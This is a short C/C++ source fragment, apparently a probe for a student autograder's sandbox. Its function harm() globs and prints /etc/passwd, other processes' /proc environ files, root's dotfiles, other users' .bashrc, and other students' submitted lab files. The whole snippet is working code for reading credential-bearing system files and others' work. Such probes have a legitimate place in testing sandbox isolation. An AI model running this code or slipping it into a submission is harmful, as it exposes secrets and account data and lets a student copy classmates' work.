/* Prints what a student is not to see: the machine's accounts, the environment of other processes,
 * others' work. */
#include <glob.h>
#include <stdio.h>

static void harm(void) {
    static const char *const places[] = {"/etc/passwd", "/proc/*/environ",
                                         "/root/.*",    "/home/*/.bashrc",
                                         "results/run", "results/submissions/*/labs/*/*.cu",
                                         "labs/*/*.cu"};
    for (const char *place : places) {
        glob_t found = {};
        glob(place, 0, NULL, &found);
        for (size_t i = 0; i < found.gl_pathc; ++i) {
            FILE *file = fopen(found.gl_pathv[i], "r");
            for (int c; file && (c = getc(file)) != EOF;)
                putchar(c);
            if (file)
                fclose(file);
        }
        globfree(&found);
    }
    fflush(stdout);
}
